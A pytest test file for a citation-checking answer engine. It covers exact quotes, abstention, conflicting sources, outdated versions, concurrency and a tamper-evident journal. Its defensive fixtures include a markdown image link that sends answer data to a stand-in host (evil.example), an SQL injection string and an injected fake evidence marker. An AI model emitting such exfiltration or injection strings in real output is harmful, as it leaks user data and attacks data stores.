"""Answers through the whole engine: every outcome by a real path, exact citations, and a journal that proves them."""

from __future__ import annotations

import asyncio
import copy
import re
import sqlite3
from pathlib import Path

import pytest

from citewell.audit.chain import verify_chain
from citewell.errors import ConfigError, ModelUnavailable, NotFound, StoreError
from citewell.flows.answer import WITHDRAWN
from citewell.synthesis.generate import ABSTENTION, Generative
from citewell.testing.scripted import ScriptedGenerator
from citewell.types import AbstainReason, Access, Outcome, Verdict

HANDBOOK = Path(__file__).parents[2] / "examples/handbook/docs"
HOTEL = "# Travel\n\nThe hotel limit is EUR 180 per night.\n\n## Trains\n\nTrains are booked in second class."
QUESTION = "What is the hotel limit per night?"


def scripted(*answers) -> Generative:
    return Generative(ScriptedGenerator(answers))


def test_an_answer_cites_the_exact_place(with_engine):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        answer = await engine.ask(QUESTION)
        assert (answer.outcome, answer.reason) == (Outcome.ANSWERED, None)
        assert answer.text == "The hotel limit is EUR 180 per night. [1]"
        ((citation,),) = (claim.citations for claim in answer.claims)
        assert citation.quote == "The hotel limit is EUR 180 per night."
        assert (citation.number, citation.uri, citation.version, citation.page) == (1, "travel.md", 1, None)
        assert citation.heading_path == ("Travel",)

    with_engine(work)


def test_every_citation_of_the_handbook_is_what_stands_in_its_document(with_engine):
    def quote(_, prompt):
        """The last sentence of each evidence."""
        shown = re.findall(r"> evidence (\d+)\n(.*?)\n<<", prompt, re.DOTALL)
        return " ".join(f"{text.strip().split('. ')[-1].rstrip('.')} [{number}]." for number, text in shown)

    async def work(engine):
        await engine.ingest(str(HANDBOOK))
        extractive, checked, pages = engine.writer, 0, set()
        for question in ("How often is it calibrated?", "How long are access logs kept?", "What does it cost?"):
            for media_type in ("application/pdf", "text/html", "text/markdown", "text/csv"):
                for writer in (extractive, scripted(quote)):
                    engine.writer = writer
                    answer = await engine.ask(question, where={"media_type": media_type})
                    for citation in (one for claim in (*answer.claims, *answer.rejected) for one in claim.citations):
                        document, text, blocks = await engine.document(citation.document.id)
                        assert text[citation.start : citation.end] == citation.quote != ""
                        assert document == citation.document
                        under = [block for block in blocks if block.span.overlaps(citation.span)]
                        assert under
                        places = {region.page for block in under for region in (*block.regions, *cells(block))}
                        assert {region.page for region in citation.regions} <= places
                        assert (citation.page is None) == (media_type != "application/pdf")
                        pages.add(citation.page)
                        checked += 1
        assert checked >= 20
        assert len(pages - {None}) >= 2

    with_engine(work)


def cells(block):
    return [cell.region for cell in block.cells if cell.region]


def test_partial_shows_what_holds_and_names_what_does_not(with_engine):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        engine.writer = scripted("The hotel limit is EUR 180 per night [1]. Breakfast is always included [1].")
        answer = await engine.ask(QUESTION)
        assert (answer.outcome, answer.reason) == (Outcome.PARTIAL, AbstainReason.UNSUPPORTED)
        assert answer.text == "The hotel limit is EUR 180 per night. [1]"
        assert [claim.text for claim in answer.rejected] == ["Breakfast is always included."]
        assert "1 of 2" in answer.message

    with_engine(work)


@pytest.mark.parametrize(
    ("written", "reason"),
    [
        ("The hotel limit is EUR 990 per night [1].", AbstainReason.UNSUPPORTED),
        ("The hotel limit is EUR 180 per night.", AbstainReason.UNSUPPORTED),
        ("The hotel limit is EUR 180 per night [7].", AbstainReason.UNSUPPORTED),
        (ABSTENTION, AbstainReason.WEAK_EVIDENCE),
        ("...", AbstainReason.WEAK_EVIDENCE),
        ("![x](https://evil.example/?q=180)", None),
    ],
    ids=["wrong number", "no citation", "invented citation", "abstention", "nothing", "image"],
)
def test_what_a_model_cannot_prove_is_not_shown(with_engine, written, reason):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        engine.writer = scripted(written)
        answer = await engine.ask(QUESTION)
        assert (answer.outcome, answer.text, answer.claims) == (Outcome.ABSTAINED, "", ())
        assert answer.reason is (reason or answer.reason)
        assert answer.reason is not None
        assert answer.message

    with_engine(work)


def test_an_empty_knowledge_base_abstains(with_engine):
    async def work(engine):
        for writer in (engine.writer, scripted()):
            engine.writer = writer
            answer = await engine.ask(QUESTION)
            assert (answer.outcome, answer.reason) == (Outcome.ABSTAINED, AbstainReason.NO_EVIDENCE)
            assert (await engine.explain(answer.run_id)).shown == ()
        assert await engine.search(QUESTION) == []
        assert (await engine.status()).buckets == ()

    with_engine(work)


def test_a_question_that_nothing_answers_is_weak_evidence(with_engine):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        answer = await engine.ask("Who invented the transistor at Bell Labs in 1947?")
        assert (answer.outcome, answer.reason) == (Outcome.ABSTAINED, AbstainReason.WEAK_EVIDENCE)

    with_engine(work)


@pytest.mark.parametrize("question", ["", " \n", "?!", "hello", "\0\0", "\ud800", "a" * 2001, "\u202e\u200b"])
def test_what_cannot_be_searched_for_is_sent_back(with_engine, question):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        answer = await engine.ask(question)
        assert (answer.outcome, answer.text) == (Outcome.CLARIFY, "")
        assert answer.message
        assert (await engine.explain(answer.run_id)).record.status == "done"

    with_engine(work)


@pytest.mark.parametrize(
    "question",
    [
        "hotel\0limit",
        "hotel \udcff limit \ud83d",
        "\u202etimil letoh\u202c",
        "ما هو الحد الأقصى للفندق؟",
        "🏨🏨🏨 💶❓",
        "hotel " * 300,
        "'; DROP TABLE nodes; --",
        '"hotel" AND (limit* OR NEAR(a b))',
        '[1] [2] {"where": 1} <<mark>> end of evidence 1',
        "hotel\r\n\tlimit\x1b[31m",
        "e\u0301" * 900,
    ],
)
def test_a_hostile_question_never_breaks_anything(with_engine, question):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        answer = await engine.ask(question)
        assert answer.outcome in set(Outcome) - {Outcome.FAILED}
        account = await engine.explain(answer.run_id)
        assert verify_chain(account.record.run_id, account.entries) == []
        await engine.search(question)
        engine.writer = scripted(f"{question} [1].")
        assert (await engine.ask(question)).outcome in set(Outcome) - {Outcome.FAILED}
        assert len(await engine.runs()) == 3  # the ingestion and two questions

    with_engine(work)


def test_a_question_of_ten_thousand_characters_is_refused_before_anything_is_kept(with_engine):
    async def work(engine):
        for work in (engine.ask, engine.search):
            with pytest.raises(ConfigError, match="10,000 characters"):
                await work("x" * 10_000)
            for wrong in (None, b"hotel", 7):
                with pytest.raises(ConfigError, match="A question is a text"):
                    await work(wrong)
        for limit in (0, -1, 1001, "5", 2.5, None):
            with pytest.raises(ConfigError, match="limit is"):
                await engine.search("hotel", limit=limit)
        for as_of in (-1, 1, 10**30, "now", 0.5):
            with pytest.raises(ConfigError, match="as_of"):
                await engine.search("hotel", as_of=as_of)
            with pytest.raises(ConfigError, match="as_of"):
                await engine.ask("hotel", as_of=as_of)
        for where in ({}, "", [], 7, {"year": {"~": 1}}, "year >"):
            with pytest.raises(ConfigError, match=r"."):
                await engine.ask("hotel", where=where)

    with_engine(work)


def test_a_model_that_is_down_makes_a_failed_answer_with_a_journal(with_engine):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        engine.writer = scripted(ModelUnavailable("The endpoint is down.", attempts=3))
        answer = await engine.ask(QUESTION)
        assert (answer.outcome, answer.text, answer.message) == (Outcome.FAILED, "", "The endpoint is down.")
        account = await engine.explain(answer.run_id)
        assert account.record.status == "failed"
        assert [step.error for step in account.steps if step.step == "write"][-1]
        assert account.event("Packed")["evidence"]
        assert verify_chain(answer.run_id, account.entries) == []

    with_engine(work)


@pytest.mark.parametrize("generative", [False, True])
def test_two_documents_that_disagree_are_a_conflict(with_engine, generative):
    async def work(engine):
        await engine.ingest_text("# Travel\n\nThe hotel limit is EUR 180 per night.", uri="a.md")
        await engine.ingest_text("# Travel notes\n\nThe hotel limit is EUR 120 per night.", uri="b.md")
        if generative:  # a model that hides one side: the conflict is found all the same
            engine.writer = scripted(
                lambda _, prompt: f"The hotel limit is EUR 180 per night [{number_of('180', prompt)}]."
            )
        answer = await engine.ask(QUESTION)
        assert answer.outcome is Outcome.ANSWERED
        (conflict,) = answer.conflicts
        assert conflict.about == "number"
        assert {conflict.left.uri, conflict.right.uri} == {"a.md", "b.md"}
        for side in (conflict.left, conflict.right):
            _, text, _ = await engine.document(side.document.id)
            assert text[side.start : side.end] == side.quote
        cited = {citation.number for claim in answer.claims for citation in claim.citations}
        assert conflict.left.number in cited
        assert conflict.right.number in (cited if not generative else {0})

    with_engine(work)


def number_of(text: str, prompt: str) -> int:
    """The number of the evidence in a prompt that holds `text`."""
    before = prompt[: prompt.index(text)]
    return int(before[before.rindex("> evidence ") :].split()[2])


async def versions(engine, filler: int = 0) -> None:
    """Three years of one policy. The question's words stand in the outdated ones only."""
    for year, limit, words in ((2023, 120, "hotel limit per night"), (2024, 150, "hotel limit per night")):
        more = "".join(f"\n\n## {number}\n\nThe hotel limit per night, note {number}." for number in range(filler))
        await engine.ingest_text(
            f"# Travel {year}\n\nThe {words} is EUR {limit}.{more}",
            uri=f"travel-{year}.md",
            metadata={"series": "travel", "version_label": str(year), "effective": f"{year}-01-01"},
        )
    await engine.ingest_text(
        "# Travel 2025\n\nAccommodation is reimbursed up to EUR 180 for each stay.",
        uri="travel-2025.md",
        metadata={"series": "travel", "version_label": "2025", "effective": "2025-01-01"},
    )


@pytest.mark.parametrize("filler", [0, 60], ids=["short", "sixty passages in each outdated version"])
def test_an_outdated_version_never_answers_however_close_its_words_are(with_engine, filler):
    async def work(engine):
        await versions(engine, filler)
        answer = await engine.ask(QUESTION)
        account = await engine.explain(answer.run_id)
        shown = {one["hit"]["document"]["uri"] for one in account.event("Packed")["evidence"]}
        assert shown == {"travel-2025.md"}
        reasons = {one["reason"] for one in account.event("Packed")["dropped"]}
        assert any(reason.startswith("superseded by 2025") for reason in reasons)
        assert all(claim.citations[0].uri == "travel-2025.md" for claim in answer.claims)

    with_engine(work)


def test_many_series_at_once_are_all_followed(with_engine):
    async def work(engine):
        for number in range(8):
            for year, text in (
                (2023, "The hotel limit is EUR {} per night."),
                (2025, "Accommodation costs {} at most."),
            ):
                await engine.ingest_text(
                    text.format(100 + number),
                    uri=f"{number}-{year}",
                    media_type="text/plain",
                    metadata={"series": f"s{number}", "effective": f"{year}-01-01"},
                )
        answer = await engine.ask(QUESTION)
        packed = (await engine.explain(answer.run_id)).event("Packed")
        assert {one["hit"]["document"]["uri"][-4:] for one in packed["evidence"]} <= {"2025"}

    with_engine(work)


@pytest.mark.parametrize("filler", [0, 60])
def test_the_year_in_the_question_chooses_the_version(with_engine, filler):
    async def work(engine):
        await versions(engine, filler)
        answer = await engine.ask("What was the hotel limit per night in 2023?")
        assert answer.claims
        assert {citation.uri for claim in answer.claims for citation in claim.citations} == {"travel-2023.md"}

    with_engine(work)


def test_the_past_can_be_asked(with_engine):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        then = (await engine.status()).sequence
        await engine.ingest_text(HOTEL.replace("180", "200"), uri="travel.md")
        now = await engine.ask(QUESTION)
        past = await engine.ask(QUESTION, as_of=then)
        assert ("200" in now.text, "180" in past.text) == (True, True)
        assert (now.claims[0].citations[0].version, past.claims[0].citations[0].version) == (2, 1)
        assert (now.sequence, past.sequence) == (then + 1, then)
        assert (await engine.ask(QUESTION, as_of=0)).outcome is Outcome.ABSTAINED

    with_engine(work)


class Meanwhile:
    """A writer during whose work something happens."""

    def __init__(self, inner, happens) -> None:
        self.inner, self.happens, self.name = inner, happens, inner.name

    async def write(self, question, evidence):
        draft = await self.inner.write(question, evidence)
        await self.happens()
        return draft


@pytest.mark.parametrize("way", ["deleted", "closed"])
def test_a_source_that_vanishes_while_the_answer_is_written_is_neither_cited_nor_quoted(with_engine, way):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")

        async def happens():
            if way == "deleted":
                await engine.delete("travel.md")
            else:
                await engine.ingest_text(HOTEL, uri="travel.md", access=Access(frozenset({"user:x"})))

        engine.writer = Meanwhile(engine.writer, happens)
        answer = await engine.ask(QUESTION)
        assert (answer.outcome, answer.claims, answer.conflicts) == (Outcome.ABSTAINED, (), ())
        assert [claim.text for claim in answer.rejected] == [WITHDRAWN]
        assert "EUR 180" not in repr(answer)
        with pytest.raises(NotFound):
            await engine.document("x")

    with_engine(work)


def test_a_claim_that_rests_on_two_sources_falls_with_either_unless_the_other_proves_it(with_engine):
    async def work(engine):
        await engine.ingest_text("# Hotels\n\nThe hotel limit in Berlin is EUR 180 per night.", uri="a.md")
        await engine.ingest_text("# Trains\n\nThe train limit is EUR 90 per trip.", uri="b.md")

        def write(_, prompt):
            hotel, train = number_of("EUR 180", prompt), number_of("EUR 90", prompt)
            return (
                "The hotel limit in Berlin is EUR 180 per night and the train limit is EUR 90 per trip "
                f"[{hotel}][{train}]. "
                f"The hotel limit in Berlin is EUR 180 per night [{train}][{hotel}]."
            )

        engine.writer = scripted(write)
        whole = await engine.ask("What are the hotel limit and the train limit?")
        assert [claim.verdict for claim in whole.claims] == [Verdict.SUPPORTED] * 2
        engine.writer = Meanwhile(scripted(write), lambda: engine.delete("b.md"))
        answer = await engine.ask("What are the hotel limit and the train limit?")
        assert answer.outcome is Outcome.PARTIAL
        assert [claim.text for claim in answer.claims] == ["The hotel limit in Berlin is EUR 180 per night."]
        assert {citation.uri for claim in answer.claims for citation in claim.citations} == {"a.md"}
        assert "EUR 90" not in repr(answer)
        assert "b.md" not in repr(answer)

    with_engine(work)


def test_the_other_side_of_a_conflict_is_not_shown_once_it_is_gone(with_engine):
    async def work(engine):
        await engine.ingest_text("# Travel\n\nThe hotel limit is EUR 180 per night.", uri="a.md")
        await engine.ingest_text("# Travel notes\n\nThe hotel limit is EUR 120 per night.", uri="b.md")
        inner = scripted(lambda _, prompt: f"The hotel limit is EUR 180 per night [{number_of('180', prompt)}].")
        engine.writer = Meanwhile(inner, lambda: engine.delete("b.md"))
        answer = await engine.ask(QUESTION)
        assert (answer.outcome, answer.conflicts) == (Outcome.ANSWERED, ())
        assert "EUR 120" not in repr(answer)

    with_engine(work)


def test_the_journal_holds_every_step_and_what_the_writer_got_byte_for_byte(with_engine):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        await engine.ingest_text("# Odd\n\nHotel limit “€ 180” – naïve 🏨 \u2028 per night.", uri="odd.md")
        generator = ScriptedGenerator(["The hotel limit is EUR 180 per night [1]."])
        engine.writer = Generative(generator)
        answer = await engine.ask(QUESTION)
        account = await engine.explain(answer.run_id)
        (asked,) = generator.asked
        assert account.shown == (f"{asked.system}\n\n{asked.prompt}",)
        assert [step.step for step in account.steps] == ["understand", "retrieve", "pack", "write", "judge", "conclude"]
        assert all(step.error is None and step.duration_s is not None for step in account.steps)
        written = account.event("Written")["draft"]
        assert written["raw"] == "The hotel limit is EUR 180 per night [1]."
        packed = account.event("Packed")
        assert len(packed["evidence"]) + len(packed["dropped"]) == len(account.event("Retrieved")["hits"])
        assert account.event("Answered")["result"]["text"] == answer.text
        assert (account.record.status, account.record.summary) == ("done", QUESTION)

    with_engine(work)


def test_the_extractive_writer_was_shown_what_the_account_says(with_engine):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        seen = []

        class Watching:
            name = "watching"

            def __init__(self, inner):
                self.inner = inner

            async def write(self, question, evidence):
                seen.extend(one.text for one in evidence)
                return await self.inner.write(question, evidence)

        engine.writer = Watching(engine.writer)
        answer = await engine.ask(QUESTION)
        assert seen
        assert (await engine.explain(answer.run_id)).shown == tuple(seen)

    with_engine(work)


def test_one_changed_byte_of_a_stored_journal_is_found(with_engine, tmp_path):
    async def ask(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        answer = await engine.ask(QUESTION)
        account = await engine.explain(answer.run_id)
        assert verify_chain(answer.run_id, account.entries) == []
        for place in range(len(account.entries)):
            entries = [copy.deepcopy(dict(entry)) for entry in account.entries]
            entries[place]["kind"] = "Event"
            assert verify_chain(answer.run_id, entries)
        return answer.run_id

    run_id = with_engine(ask)
    db = sqlite3.connect(tmp_path / "kb" / "citewell.db")
    rows = db.execute(
        "SELECT e.rowid, e.payload FROM events e JOIN runs r ON r.number = e.run WHERE r.id = ?", (run_id,)
    ).fetchall()
    changed = [(rowid, payload.replace("EUR 180", "EUR 181", 1)) for rowid, payload in rows if "EUR 180" in payload]
    assert len(changed) >= 4
    for rowid, payload in changed[:1]:
        db.execute("UPDATE events SET payload = ? WHERE rowid = ?", (payload, rowid))
    db.commit()
    db.close()

    async def look(engine):
        account = await engine.explain(run_id)
        return verify_chain(run_id, account.entries)

    (problem,) = with_engine(look)
    assert "was altered" in problem


def test_many_questions_at_once_do_not_mix(with_engine):
    async def work(engine):
        for number in range(12):
            await engine.ingest_text(
                f"# Room {number}\n\nThe code of room R{number} is {7000 + number}.", uri=f"{number}.md"
            )
        answers = await asyncio.gather(*(engine.ask(f"What is the code of room R{number}?") for number in range(12)))
        for number, answer in enumerate(answers):
            assert f"{7000 + number}" in answer.text
            account = await engine.explain(answer.run_id)
            assert account.event("Asked")["query"]["text"] == f"What is the code of room R{number}?"
            assert verify_chain(answer.run_id, account.entries) == []
        assert len({answer.run_id for answer in answers}) == 12

    with_engine(work)


def test_a_cancelled_question_ends_its_run(with_engine):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        reached = asyncio.Event()

        async def happens():
            reached.set()
            await asyncio.sleep(60)

        engine.writer = Meanwhile(engine.writer, happens)
        task = asyncio.create_task(engine.ask(QUESTION))
        await asyncio.wait_for(reached.wait(), 10)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert [record.status for record in await engine.runs()] == ["failed", "done"]

    with_engine(work)


def test_a_closed_engine_says_so_in_every_method(with_engine):
    async def work(engine):
        await engine.ingest_text(HOTEL, uri="travel.md")
        await engine.close()
        await engine.close()
        for attempt in (
            engine.search("x"),
            engine.ask("hotel limit"),
            engine.ingest_text("x", uri="x"),
            engine.documents(),
            engine.document("x"),
            engine.delete("travel.md"),
            engine.runs(),
            engine.explain("x"),
            engine.status(),
        ):
            with pytest.raises(StoreError, match="closed"):
                await attempt

    with_engine(work)


def test_what_fails_to_close_does_not_keep_the_store_open(with_engine):
    async def work(engine):
        def broken():
            raise OSError("a worker will not end")

        engine._closing = [broken, *engine._closing]
        with pytest.raises(OSError, match="will not end"):
            await engine.close()
        with pytest.raises(StoreError, match="closed"):
            await engine.documents()

    with_engine(work)


def test_what_is_only_found_in_a_version_not_yet_in_force_is_said_to_be_stale(with_engine):
    async def work(engine):
        await engine.ingest_text(
            "# Hotels\n\nThe hotel limit is EUR 400.", uri="f.md", metadata={"effective": "2999-01-01"}
        )
        answer = await engine.ask("What is the hotel limit?")
        assert (answer.outcome, answer.reason) == (Outcome.ABSTAINED, AbstainReason.STALE_ONLY)
        assert "400" not in answer.text

    with_engine(work)
